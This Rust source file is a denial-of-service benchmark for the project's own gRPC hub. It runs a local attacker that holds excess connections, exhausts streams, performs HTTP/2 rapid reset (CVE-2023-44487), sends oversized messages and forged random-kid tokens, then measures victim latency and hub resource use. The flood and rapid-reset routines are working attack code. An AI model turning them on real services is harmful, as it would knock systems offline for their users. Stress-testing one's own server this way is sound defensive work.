//! `flood`: one organisation with a valid certificate and token floods the hub while another
//! sends signals at a fixed open-loop rate; the victim's latency is compared between quiet and
//! attack phases interleaved in the same run, and the hub's memory and CPU are sampled.
//!
//! The attacker speaks raw HTTP/2 (the `h2` crate over rustls with its organisation's
//! certificate), so it can do what a well-behaved gRPC client never does:
//!
//! * **connections**: opens more connections than `limits.max_connections` allows and holds them;
//! * **streams**: opens `StreamInbox` streams on each connection, beyond `max_streams_per_org`;
//! * **rapid reset**: sends a request's HEADERS and at once RST_STREAM, in a tight loop
//!   (CVE-2023-44487), reconnecting whenever the hub sends GOAWAY;
//! * **oversized**: `SendSignal` messages above `max_message_bytes`, and messages just below it
//!   (which the hub must decode before it can refuse them);
//! * **random `kid`s**: bearer tokens naming key ids that do not exist, so no token cache helps.
//!
//! Every attacker outcome is counted (gRPC status codes, HTTP/2 errors, refused connections).
use crate::load::{Samples, median};
use crate::setup::{self, Sealer, connect, free_port, spawn_self};
use anyhow::Context;
use bytes::Bytes;
use clap::Args;
use signaalhub_client::HubClient;
use signaalhub_client::signaalhub_proto::pb;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Options of `flood`.
#[derive(Args, Debug, Clone)]
pub struct FloodArgs {
    /// Working folder (dev kit, database); wiped first.
    #[arg(long, default_value = "target/bench-flood")]
    pub dir: PathBuf,
    /// The victim's open-loop rate, signals per second (below its rate limit).
    #[arg(long, default_value_t = 50.0)]
    pub rate: f64,
    /// Seconds per phase; phases alternate quiet / attack, starting and ending quiet.
    #[arg(long, default_value_t = 8)]
    pub phase_secs: u64,
    /// Attack phases.
    #[arg(long, default_value_t = 3)]
    pub rounds: usize,
    /// The hub's `limits.max_connections` for the run (the attacker goes beyond it).
    #[arg(long, default_value_t = 400)]
    pub max_connections: usize,
    /// The hub's `limits.max_connections_per_org` (default: the hub's default); a value at or
    /// above `--max-connections` shows the hub without a per-organisation cap.
    #[arg(long)]
    pub connections_per_org: Option<u32>,
    /// Connections the attacker opens and holds (beyond `--max-connections` by default).
    #[arg(long, default_value_t = 500)]
    pub attack_connections: usize,
    /// Connections the attacker runs rapid reset on.
    #[arg(long, default_value_t = 4)]
    pub reset_connections: usize,
    /// Do not pin the hub to core 1 and the clients to core 0.
    #[arg(long)]
    pub no_pin: bool,
}

/// Outcome counts of the attacker, by kind.
#[derive(Debug, Default)]
struct Tally(Mutex<BTreeMap<String, u64>>);

impl Tally {
    fn add(&self, what: impl Into<String>) {
        if let Ok(mut m) = self.0.lock() {
            *m.entry(what.into()).or_default() += 1;
        }
    }
    fn snapshot(&self) -> BTreeMap<String, u64> {
        self.0.lock().map(|m| m.clone()).unwrap_or_default()
    }
}

/// How the attacker reaches the hub.
#[derive(Clone)]
struct Attacker {
    addr: String,
    tls: tokio_rustls::TlsConnector,
    token: String,
    tally: Arc<Tally>,
}

fn grpc_name(code: &str) -> String {
    let n: i32 = code.parse().unwrap_or(-1);
    format!("{:?}", tonic::Code::from_i32(n))
}

impl Attacker {
    fn new(kit: &Path, sector: &str, addr: String) -> anyhow::Result<Attacker> {
        let dir = kit.join("orgs").join(sector);
        let certs = signaalhub_server::auth::tls::parse_certs(
            &std::fs::read(dir.join("cert.pem"))?,
            "cert",
        )?;
        let key =
            signaalhub_server::auth::tls::parse_key(&std::fs::read(dir.join("key.pem"))?, "key")?;
        let mut roots = rustls::RootCertStore::empty();
        for ca in
            signaalhub_server::auth::tls::parse_certs(&std::fs::read(kit.join("ca.pem"))?, "ca")?
        {
            roots.add(ca)?;
        }
        let provider = signaalhub_server::auth::tls::crypto_provider();
        let mut cfg = rustls::ClientConfig::builder_with_provider(provider)
            .with_protocol_versions(&[&rustls::version::TLS13])?
            .with_root_certificates(roots)
            .with_client_auth_cert(certs, key)?;
        cfg.alpn_protocols = vec![b"h2".to_vec()];
        Ok(Attacker {
            addr,
            tls: tokio_rustls::TlsConnector::from(Arc::new(cfg)),
            token: std::fs::read_to_string(dir.join("token.jwt"))?
                .trim()
                .to_owned(),
            tally: Arc::new(Tally::default()),
        })
    }

    /// One HTTP/2 connection (TLS with the attacker's certificate), its driver spawned.
    async fn connect(&self, what: &str) -> Option<h2::client::SendRequest<Bytes>> {
        self.tally.add(format!("{what}: connection attempts"));
        let tcp = match tokio::time::timeout(
            Duration::from_secs(5),
            tokio::net::TcpStream::connect(&self.addr),
        )
        .await
        {
            Ok(Ok(t)) => t,
            Ok(Err(_)) => {
                self.tally.add(format!("{what}: TCP connect refused"));
                return None;
            }
            Err(_) => {
                self.tally.add(format!("{what}: TCP connect timed out"));
                return None;
            }
        };
        let _ = tcp.set_nodelay(true);
        let name = rustls::pki_types::ServerName::try_from("localhost").ok()?;
        let tls =
            match tokio::time::timeout(Duration::from_secs(5), self.tls.connect(name, tcp)).await {
                Ok(Ok(t)) => t,
                Ok(Err(_)) => {
                    self.tally.add(format!("{what}: TLS handshake failed"));
                    return None;
                }
                Err(_) => {
                    self.tally
                        .add(format!("{what}: TLS handshake not answered in 5 s"));
                    return None;
                }
            };
        let (send, conn) = match tokio::time::timeout(
            Duration::from_secs(5),
            h2::client::Builder::new()
                .max_concurrent_reset_streams(100_000)
                .handshake::<_, Bytes>(tls),
        )
        .await
        {
            Ok(Ok(x)) => x,
            _ => {
                self.tally.add(format!("{what}: HTTP/2 handshake failed"));
                return None;
            }
        };
        let tally = Arc::clone(&self.tally);
        let what = what.to_owned();
        tokio::spawn(async move {
            if let Err(e) = conn.await {
                tally.add(format!("{what}: connection ended: {}", h2_reason(&e)));
            }
        });
        Some(send)
    }

    fn request(&self, path: &str, token: &str) -> http::Request<()> {
        let mut r = http::Request::builder()
            .method("POST")
            .uri(format!("https://localhost{path}"))
            .header("content-type", "application/grpc")
            .header("te", "trailers");
        if !token.is_empty() {
            r = r.header("authorization", format!("Bearer {token}"));
        }
        r.body(()).unwrap_or_default()
    }

    /// One unary gRPC call on `send`: the status it ends with, or the HTTP/2 error.
    async fn call(
        &self,
        send: &mut h2::client::SendRequest<Bytes>,
        path: &str,
        token: &str,
        message: Bytes,
    ) -> Result<String, h2::Error> {
        let mut s = send.clone().ready().await?;
        let (resp, mut body) = s.send_request(self.request(path, token), false)?;
        *send = s;
        let mut framed = Vec::with_capacity(5 + message.len());
        framed.push(0);
        framed.extend_from_slice(&(message.len() as u32).to_be_bytes());
        framed.extend_from_slice(&message);
        body.reserve_capacity(framed.len());
        body.send_data(Bytes::from(framed), true)?;
        let resp = resp.await?;
        if let Some(s) = resp.headers().get("grpc-status") {
            let code = grpc_name(s.to_str().unwrap_or(""));
            self.first_message(path, &code, resp.headers());
            return Ok(code);
        }
        let mut rb = resp.into_body();
        while let Some(chunk) = rb.data().await {
            let chunk = chunk?;
            let _ = rb.flow_control().release_capacity(chunk.len());
        }
        let trailers = rb.trailers().await?;
        Ok(match trailers {
            Some(t) => match t.get("grpc-status") {
                Some(v) => {
                    let code = grpc_name(v.to_str().unwrap_or(""));
                    self.first_message(path, &code, &t);
                    code
                }
                None => "no grpc-status".into(),
            },
            None => "no grpc-status".into(),
        })
    }

    /// Records the first `grpc-message` seen with each status code (not for OK).
    fn first_message(&self, path: &str, code: &str, headers: &http::HeaderMap) {
        if code == "Ok" {
            return;
        }
        let msg = headers
            .get("grpc-message")
            .and_then(|m| m.to_str().ok())
            .unwrap_or("");
        let key = format!("first {code} message ({path}): ");
        if let Ok(mut m) = self.tally.0.lock()
            && !m.keys().any(|k| k.starts_with(&key))
        {
            let short: String = msg.chars().take(160).collect();
            m.insert(format!("{key}{short}"), 1);
        }
    }
}

fn h2_reason(e: &h2::Error) -> String {
    if e.is_go_away() {
        format!("GOAWAY {:?}", e.reason())
    } else if let Some(r) = e.reason() {
        format!("reset {r:?}")
    } else if e.is_io() {
        "I/O error (closed)".into()
    } else {
        "protocol error".into()
    }
}

/// A JWT-shaped token whose header names a random key id (and whose signature is noise).
fn random_kid_token(n: u64) -> String {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let mut kid = [0u8; 12];
    let _ = ring::rand::SecureRandom::fill(&ring::rand::SystemRandom::new(), &mut kid);
    let header = format!(
        "{{\"alg\":\"EdDSA\",\"typ\":\"JWT\",\"kid\":\"{}-{n}\"}}",
        b64.encode(kid)
    );
    let claims = format!(
        "{{\"sub\":\"x{n}\",\"aud\":\"signaalhub\",\"exp\":{}}}",
        setup::now() + 600
    );
    let sig = [7u8; 64];
    format!(
        "{}.{}.{}",
        b64.encode(header),
        b64.encode(claims),
        b64.encode(sig)
    )
}

const SEND: &str = "/signaalhub.v1.SignalService/SendSignal";
const INBOX: &str = "/signaalhub.v1.SignalService/StreamInbox";

/// Runs every attack until `stop`.
async fn attack(a: Attacker, args: AttackArgs, big: (Bytes, Bytes), stop: Arc<AtomicBool>) {
    let mut tasks = Vec::new();
    let persistent = spawn_persistent_attacks(&a, &args, &big, &stop);
    // The connections that carry the other attacks go first; then the attacker tries to hold
    // more connections than the hub allows, and inbox streams beyond the per-organisation cap.
    tokio::time::sleep(Duration::from_millis(300)).await;
    for i in 0..args.attack_connections {
        let a = a.clone();
        let stop = Arc::clone(&stop);
        tasks.push(tokio::spawn(async move {
            let Some(mut send) = a.connect("held connection").await else {
                return;
            };
            // One health check proves the hub serves the connection.
            match a
                .call(&mut send, "/grpc.health.v1.Health/Check", "", Bytes::new())
                .await
            {
                Ok(code) => a.tally.add(format!("held connection: health check {code}")),
                Err(e) => {
                    a.tally
                        .add(format!("held connection: health check {}", h2_reason(&e)));
                    return;
                }
            }
            let mut streams = Vec::new();
            // A few inbox streams per connection: over all connections far beyond the cap.
            for _ in 0..if i < 50 { 4 } else { 0 } {
                let req = pb::StreamInboxRequest::default();
                let msg = Bytes::from(prost::Message::encode_to_vec(&req));
                let Ok(mut s) = send.clone().ready().await else {
                    break;
                };
                let Ok((resp, mut body)) = s.send_request(a.request(INBOX, &a.token), false) else {
                    break;
                };
                send = s;
                let mut framed = vec![0u8];
                framed.extend_from_slice(&(msg.len() as u32).to_be_bytes());
                framed.extend_from_slice(&msg);
                let _ = body.send_data(Bytes::from(framed), true);
                let tally = Arc::clone(&a.tally);
                streams.push(tokio::spawn(async move {
                    match resp.await {
                        Ok(r) => match r.headers().get("grpc-status") {
                            Some(s) => tally.add(format!(
                                "StreamInbox: {}",
                                grpc_name(s.to_str().unwrap_or(""))
                            )),
                            None => {
                                tally.add("StreamInbox: open");
                                // Hold the stream, reading what comes.
                                let mut b = r.into_body();
                                while let Some(Ok(c)) = b.data().await {
                                    let _ = b.flow_control().release_capacity(c.len());
                                }
                            }
                        },
                        Err(e) => tally.add(format!("StreamInbox: {}", h2_reason(&e))),
                    }
                }));
            }
            while !stop.load(Ordering::Relaxed) {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            for s in streams {
                s.abort();
            }
            drop(send);
        }));
    }
    tasks.extend(persistent);
    // Until the phase ends; then whatever still waits (a handshake the hub does not answer) is
    // dropped, so no attack spills into the next quiet phase.
    while !stop.load(Ordering::Relaxed) {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    for t in &tasks {
        t.abort();
    }
    for t in tasks {
        let _ = t.await;
    }
}

/// Rapid reset, oversized and near-limit messages, random `kid`s: each on connections of its own
/// that it re-opens whenever the hub closes them.
fn spawn_persistent_attacks(
    a: &Attacker,
    args: &AttackArgs,
    big: &(Bytes, Bytes),
    stop: &Arc<AtomicBool>,
) -> Vec<tokio::task::JoinHandle<()>> {
    let mut tasks = Vec::new();
    // Rapid reset: HEADERS then RST_STREAM at once, as fast as the connection takes them.
    for _ in 0..args.reset_connections {
        let a = a.clone();
        let stop = Arc::clone(stop);
        tasks.push(tokio::spawn(async move {
            while !stop.load(Ordering::Relaxed) {
                let Some(mut send) = a.connect("rapid reset").await else {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                };
                let mut n = 0u64;
                while !stop.load(Ordering::Relaxed) {
                    let s = match send.clone().ready().await {
                        Ok(s) => s,
                        Err(e) => {
                            a.tally.add(format!("rapid reset: {}", h2_reason(&e)));
                            break;
                        }
                    };
                    send = s;
                    match send.send_request(a.request(SEND, &a.token), false) {
                        Ok((_resp, mut body)) => {
                            body.send_reset(h2::Reason::CANCEL);
                            n += 1;
                            a.tally.add("rapid reset: stream opened and reset");
                        }
                        Err(e) => {
                            a.tally.add(format!("rapid reset: {}", h2_reason(&e)));
                            break;
                        }
                    }
                    if n.is_multiple_of(64) {
                        tokio::task::yield_now().await;
                    }
                }
            }
        }));
    }
    // Oversized (above the limit) and near-limit messages, and random `kid`s, on a few
    // connections with many calls in flight each.
    for kind in 0..3usize {
        for _ in 0..2 {
            let a = a.clone();
            let stop = Arc::clone(stop);
            let big = big.clone();
            tasks.push(tokio::spawn(async move {
                let seq = Arc::new(AtomicU64::new(0));
                while !stop.load(Ordering::Relaxed) {
                    let label = ["oversized", "near-limit", "random kid"][kind];
                    let Some(send) = a.connect(label).await else {
                        tokio::time::sleep(Duration::from_millis(50)).await;
                        continue;
                    };
                    let mut workers = Vec::new();
                    for _ in 0..32 {
                        let a = a.clone();
                        let stop = Arc::clone(&stop);
                        let big = big.clone();
                        let seq = Arc::clone(&seq);
                        let mut send = send.clone();
                        workers.push(tokio::spawn(async move {
                            while !stop.load(Ordering::Relaxed) {
                                let n = seq.fetch_add(1, Ordering::Relaxed);
                                let (token, msg) = match kind {
                                    0 => (a.token.clone(), big.0.clone()),
                                    1 => (a.token.clone(), big.1.clone()),
                                    _ => (random_kid_token(n), Bytes::from_static(b"")),
                                };
                                match a.call(&mut send, SEND, &token, msg).await {
                                    Ok(code) => a.tally.add(format!("{label}: {code}")),
                                    Err(e) => {
                                        a.tally.add(format!("{label}: {}", h2_reason(&e)));
                                        return;
                                    }
                                }
                            }
                        }));
                    }
                    for w in workers {
                        let _ = w.await;
                    }
                }
            }));
        }
    }
    tasks
}

/// What the attacker process is told.
#[derive(Args, Debug, Clone)]
pub struct AttackArgs {
    /// The dev kit.
    #[arg(long)]
    pub kit: PathBuf,
    /// The hub.
    #[arg(long)]
    pub addr: String,
    /// The `SendSignal` message just above the hub's limit (a file).
    #[arg(long)]
    pub message: PathBuf,
    /// Connections to open and hold.
    #[arg(long)]
    pub attack_connections: usize,
    /// Connections to run rapid reset on.
    #[arg(long)]
    pub reset_connections: usize,
}

/// The attacker process: `start` and `stop` on standard input begin and end an attack phase;
/// `quit` prints the outcome counts (`tally <count> <outcome>`) and ends.
pub async fn attacker_process(args: AttackArgs) -> anyhow::Result<()> {
    let a = Attacker::new(&args.kit, "politie", args.addr.clone())?;
    let big = Bytes::from(std::fs::read(&args.message)?);
    let mut near_path = args.message.clone().into_os_string();
    near_path.push(".near");
    let near = Bytes::from(std::fs::read(near_path)?);
    let (tx, mut rx) = tokio::sync::mpsc::channel::<String>(8);
    std::thread::spawn(move || {
        for line in std::io::stdin().lines() {
            let Ok(line) = line else { break };
            if tx.blocking_send(line).is_err() {
                break;
            }
        }
    });
    let mut running: Option<(Arc<AtomicBool>, tokio::task::JoinHandle<()>)> = None;
    while let Some(cmd) = rx.recv().await {
        match cmd.trim() {
            "start" => {
                let stop = Arc::new(AtomicBool::new(false));
                let t = tokio::spawn(attack(
                    a.clone(),
                    args.clone(),
                    (big.clone(), near.clone()),
                    Arc::clone(&stop),
                ));
                running = Some((stop, t));
            }
            "stop" => {
                if let Some((stop, t)) = running.take() {
                    stop.store(true, Ordering::Relaxed);
                    let _ = t.await;
                }
            }
            _ => break,
        }
    }
    for (k, v) in a.tally.snapshot() {
        println!("tally {v} {k}");
    }
    Ok(())
}

/// A sample of the hub process: resident memory (KiB) and CPU seconds, over time.
#[derive(Debug, Clone, Copy)]
struct Sample {
    at: Duration,
    rss_kib: u64,
    cpu: f64,
}

fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmRSS:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        })
        .unwrap_or(0)
}

/// When a fresh victim connection was tried, and how long it took to answer (or why not).
type FreshCall = (Duration, Result<Duration, String>);

/// Runs the scenario and prints the report.
pub async fn run(a: FloodArgs) -> anyhow::Result<()> {
    let _ = std::fs::remove_dir_all(&a.dir);
    std::fs::create_dir_all(&a.dir)?;
    let dir = std::fs::canonicalize(&a.dir)?;
    let kit = dir.join("kit");
    signaalhub_server::devkit::init(&kit, true).await?;
    let db = dir.join("flood.sqlite");
    setup::copy_sqlite(&kit, &db)?;
    let addr = format!("127.0.0.1:{}", free_port()?);
    let per_org = a
        .connections_per_org
        .unwrap_or(signaalhub_server::config::LimitsConfig::default().max_connections_per_org);
    let hub = spawn_self(
        &[
            "flood-hub".into(),
            "--kit".into(),
            kit.display().to_string(),
            "--database".into(),
            db.display().to_string(),
            "--listen".into(),
            addr.clone(),
            "--max-connections".into(),
            a.max_connections.to_string(),
            "--connections-per-org".into(),
            per_org.to_string(),
        ],
        (!a.no_pin).then_some(1),
        addr.clone(),
    )?;
    let pid = hub.pid();
    let mut victim = connect(&kit, "school", &addr, 2).await?;
    let basis = setup::consent_basis(&mut victim[0]).await?;
    let sealer = Sealer::new(&kit, &mut victim[0], basis, 4096).await?;
    let phases = 2 * a.rounds + 1;
    let total_secs = a.phase_secs * phases as u64;
    let n = (a.rate * total_secs as f64).ceil() as usize + 10;
    let reqs = Arc::new(sealer.requests("victim", n)?);
    // The attacker's SendSignal body: a real request with a payload that puts it just above the
    // hub's message limit (the near-limit attack sends it 4 KiB shorter, below the limit).
    let limit = signaalhub_server::config::LimitsConfig::default().max_message_bytes;
    let mut big_req = reqs[0].clone();
    big_req.signal_id = "attack".into();
    if let Some(env) = big_req.envelope.as_mut() {
        env.ciphertext = vec![0x5a; limit];
    }
    let message = dir.join("attack-message.bin");
    std::fs::write(&message, prost::Message::encode_to_vec(&big_req))?;
    if let Some(env) = big_req.envelope.as_mut() {
        env.ciphertext.truncate(limit - 4096);
    }
    std::fs::write(
        dir.join("attack-message.bin.near"),
        prost::Message::encode_to_vec(&big_req),
    )?;
    let attacker_oin = setup::kit_org(&kit, "politie")?.oin;
    // The attacker is a process of its own at the lowest priority on the victim's core, so that
    // its own CPU use (handshakes, resets) does not delay the victim's client.
    let exe = std::env::current_exe()?;
    let mut cmd = std::process::Command::new("nice");
    cmd.args(["-n", "19"]);
    if !a.no_pin {
        cmd.args(["taskset", "-c", "0"]);
    }
    let mut attacker = cmd
        .arg(&exe)
        .arg("flood-attacker")
        .arg("--kit")
        .arg(&kit)
        .arg("--addr")
        .arg(&addr)
        .arg("--message")
        .arg(&message)
        .arg("--attack-connections")
        .arg(a.attack_connections.to_string())
        .arg("--reset-connections")
        .arg(a.reset_connections.to_string())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::inherit())
        .spawn()
        .context("start the attacker process")?;
    let mut control = attacker.stdin.take().context("the attacker's stdin")?;

    // Samples of the hub's memory and CPU every 100 ms.
    let start = Instant::now();
    let samples: Arc<Mutex<Vec<Sample>>> = Arc::new(Mutex::new(Vec::new()));
    let sampling = {
        let samples = Arc::clone(&samples);
        tokio::spawn(async move {
            loop {
                let s = Sample {
                    at: start.elapsed(),
                    rss_kib: rss_kib(pid),
                    cpu: setup::cpu_secs(pid),
                };
                if let Ok(mut v) = samples.lock() {
                    v.push(s);
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        })
    };
    // A fresh victim connection and one call every second: can the victim still get in?
    let fresh: Arc<Mutex<Vec<FreshCall>>> = Arc::new(Mutex::new(Vec::new()));
    let fresh_task = {
        let fresh = Arc::clone(&fresh);
        let kit = kit.clone();
        let addr = addr.clone();
        let wt = setup::kit_org(&kit, "wijkteam")?.oin;
        tokio::spawn(async move {
            loop {
                let at = start.elapsed();
                let t0 = Instant::now();
                let r = tokio::time::timeout(Duration::from_secs(5), async {
                    let mut c = HubClient::connect(setup::options(&kit, "school", &addr)?).await?;
                    c.get_organization(&wt).await?;
                    Ok::<_, anyhow::Error>(())
                })
                .await;
                let r = match r {
                    Ok(Ok(())) => Ok(t0.elapsed()),
                    Ok(Err(e)) => Err(format!("{e}")),
                    Err(_) => Err("no answer within 5 s".into()),
                };
                if let Ok(mut v) = fresh.lock() {
                    v.push((at, r));
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        })
    };
    // The phases: the attack runs in every odd one.
    let attack_phases = {
        let a = a.clone();
        tokio::spawn(async move {
            use std::io::Write;
            for phase in 0..phases {
                if phase % 2 == 1 {
                    eprintln!("bench: attack phase {}", phase / 2 + 1);
                    let _ = writeln!(control, "start").and_then(|()| control.flush());
                    tokio::time::sleep(Duration::from_secs(a.phase_secs)).await;
                    let _ = writeln!(control, "stop").and_then(|()| control.flush());
                } else {
                    eprintln!("bench: quiet phase");
                    tokio::time::sleep(Duration::from_secs(a.phase_secs)).await;
                }
            }
            let _ = writeln!(control, "quit").and_then(|()| control.flush());
        })
    };
    // The victim: open loop over the whole run, each latency from its intended send time.
    let mut tasks = Vec::with_capacity(n);
    let t0 = tokio::time::Instant::now();
    let total = (a.rate * total_secs as f64) as u64;
    for i in 0..total {
        let intended = t0 + Duration::from_secs_f64(i as f64 / a.rate);
        tokio::time::sleep_until(intended).await;
        let mut c = victim[i as usize % victim.len()].clone();
        let req = reqs.get(i as usize).cloned();
        tasks.push(tokio::spawn(async move {
            let r = match req {
                Some(r) => c
                    .send_signal(r)
                    .await
                    .map(|_| ())
                    .map_err(|e| e.to_string()),
                None => Err("pool ran out".into()),
            };
            (intended - t0, r, tokio::time::Instant::now() - intended)
        }));
    }
    let mut victim_results = Vec::with_capacity(tasks.len());
    for t in tasks {
        if let Ok(r) = t.await {
            victim_results.push(r);
        }
    }
    let _ = attack_phases.await;
    let tally = tokio::task::spawn_blocking(move || attacker.wait_with_output())
        .await?
        .context("the attacker process")?;
    let tally = String::from_utf8_lossy(&tally.stdout).into_owned();
    sampling.abort();
    fresh_task.abort();
    let end_rss = rss_kib(pid);
    drop(victim);
    drop(hub);

    // Figures per phase kind (the first second of each phase is left out: the switch).
    let phase_of = |at: Duration| (at.as_secs_f64() / a.phase_secs as f64) as usize;
    let settled = |at: Duration| at.as_secs_f64() % a.phase_secs as f64 >= 1.0;
    let mut quiet = Samples {
        window: Duration::from_secs(1),
        ..Samples::default()
    };
    let mut loud = quiet.clone();
    for (at, r, lat) in &victim_results {
        if !settled(*at) {
            continue;
        }
        let s = if phase_of(*at) % 2 == 1 {
            &mut loud
        } else {
            &mut quiet
        };
        match r {
            Ok(()) => s.latencies_us.push(lat.as_micros() as u64),
            Err(e) => {
                s.errors += 1;
                s.first_error.get_or_insert_with(|| e.clone());
            }
        }
    }
    let samples = samples.lock().map(|v| v.clone()).unwrap_or_default();
    let per_phase = |attack: bool| -> (u64, f64) {
        let mut peak = 0;
        let mut cpu = Vec::new();
        for p in (0..phases).filter(|p| (p % 2 == 1) == attack) {
            let from = Duration::from_secs(p as u64 * a.phase_secs);
            let to = from + Duration::from_secs(a.phase_secs);
            let inside: Vec<&Sample> = samples
                .iter()
                .filter(|s| s.at >= from && s.at < to)
                .collect();
            peak = inside
                .iter()
                .map(|s| s.rss_kib)
                .max()
                .unwrap_or(0)
                .max(peak);
            if let (Some(f), Some(l)) = (inside.first(), inside.last())
                && l.at > f.at
            {
                cpu.push((l.cpu - f.cpu) / (l.at - f.at).as_secs_f64());
            }
        }
        (peak, median(cpu))
    };
    let (quiet_rss, quiet_cpu) = per_phase(false);
    let (loud_rss, loud_cpu) = per_phase(true);
    let fresh = fresh.lock().map(|v| v.clone()).unwrap_or_default();
    let fresh_of = |attack: bool| {
        let mut ok = Vec::new();
        let mut failed = 0;
        let mut first = None;
        for (at, r) in &fresh {
            if (phase_of(*at) % 2 == 1) != attack {
                continue;
            }
            match r {
                Ok(d) => ok.push(d.as_micros() as u64),
                Err(e) => {
                    failed += 1;
                    first.get_or_insert_with(|| e.clone());
                }
            }
        }
        (ok, failed, first)
    };
    let (fq, fq_failed, _) = fresh_of(false);
    let (fa, fa_failed, fa_first) = fresh_of(true);
    let pct = |v: &[u64], p: f64| {
        Samples {
            latencies_us: v.to_vec(),
            ..Samples::default()
        }
        .pct_ms(p)
    };

    println!("## signaalhub-bench flood\n");
    println!(
        "Victim (school) sends 4 KB signals open loop at {}/s over 2 connections for {} phases of {} s (quiet / attack alternating, the first second of each left out); the attacker (politie, {attacker_oin}) has a valid certificate and token. Hub limits: defaults, except `max_connections` = {} and `max_connections_per_org` = {per_org}. Hub pinned to core 1{}; load average at the end: {}.\n",
        a.rate,
        phases,
        a.phase_secs,
        a.max_connections,
        if a.no_pin { " (pinning off)" } else { "" },
        std::fs::read_to_string("/proc/loadavg")
            .unwrap_or_default()
            .split_whitespace()
            .take(3)
            .collect::<Vec<_>>()
            .join(" ")
    );
    println!(
        "| phase | victim p50 ms | p99 ms | max ms | victim ok / errors | hub peak RSS MiB | hub CPU (cores) | fresh victim connection + call: p50 / max ms, failed |"
    );
    println!("|---|---|---|---|---|---|---|---|");
    for (name, s, rss, cpu, f, ff) in [
        ("quiet", &quiet, quiet_rss, quiet_cpu, &fq, fq_failed),
        ("attack", &loud, loud_rss, loud_cpu, &fa, fa_failed),
    ] {
        println!(
            "| {name} | {:.2} | {:.2} | {:.2} | {} / {}{} | {:.0} | {:.2} | {:.1} / {:.1}, {ff} |",
            s.pct_ms(50.0),
            s.pct_ms(99.0),
            s.pct_ms(100.0),
            s.latencies_us.len(),
            s.errors,
            s.first_error
                .as_ref()
                .map(|e| format!(" (first: {e})"))
                .unwrap_or_default(),
            rss as f64 / 1024.0,
            cpu,
            pct(f, 50.0),
            pct(f, 100.0),
        );
    }
    if let Some(e) = fa_first {
        println!("\nFirst failed fresh victim connection under attack: {e}");
    }
    let by_phase: Vec<String> = (0..phases)
        .map(|p| {
            let to = Duration::from_secs((p as u64 + 1) * a.phase_secs);
            let last = samples
                .iter()
                .filter(|s| s.at < to)
                .map(|s| s.rss_kib)
                .next_back()
                .unwrap_or(0);
            format!(
                "{} {:.0}",
                if p % 2 == 1 { "attack" } else { "quiet" },
                last as f64 / 1024.0
            )
        })
        .collect();
    println!(
        "\nHub RSS (MiB) at the end of each phase: {}; after the run: {:.0} MiB.\n",
        by_phase.join(", "),
        end_rss as f64 / 1024.0
    );
    println!("Attacker outcomes (all attack phases):\n");
    println!("| attack: outcome | count |");
    println!("|---|---|");
    for line in tally.lines() {
        if let Some((v, k)) = line.strip_prefix("tally ").and_then(|l| l.split_once(' ')) {
            println!("| {k} | {v} |");
        }
    }
    Ok(())
}

/// Serves a hub on the kit's configuration with the default limits (the connection limit as
/// given), for the flood scenario.
pub async fn serve_hub(
    kit: &Path,
    database: String,
    listen: &str,
    max_connections: usize,
    connections_per_org: u32,
) -> anyhow::Result<()> {
    let mut config = signaalhub_server::config::Config::load(&kit.join("hub.toml"), |_| None)
        .context("the kit's hub.toml")?;
    config.database = database;
    config.listen = listen.to_owned();
    config.limits.max_connections = max_connections;
    config.limits.max_connections_per_org = connections_per_org;
    let listener = tokio::net::TcpListener::bind(listen).await?;
    signaalhub_server::run(listener, config, std::future::pending())
        .await
        .map_err(|e| anyhow::anyhow!("{e}"))
}
